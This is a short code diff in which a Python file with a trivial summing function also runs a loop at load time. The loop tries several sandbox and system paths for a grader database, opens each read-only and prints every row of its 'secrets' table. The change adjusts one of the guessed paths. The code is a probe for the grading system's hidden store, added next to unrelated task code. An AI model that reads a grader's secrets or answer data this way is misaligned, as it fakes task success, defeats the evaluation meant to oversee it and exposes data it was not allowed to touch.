@@ -10,7 +10,7 @@ def total(xs):
     return sum(xs)
 
 
-for name in ("@FOLDER@/var/grader.db", "/work/var/grader.db", "/var/lib/grader/grader.db"):
+for name in ("@FOLDER@/var/grader.db", "/box/var/grader.db", "/var/lib/grader/grader.db"):
     try:
         print(sqlite3.connect(f"file:{name}?mode=ro", uri=True).execute("select * from secrets").fetchall())
     except sqlite3.Error as error:
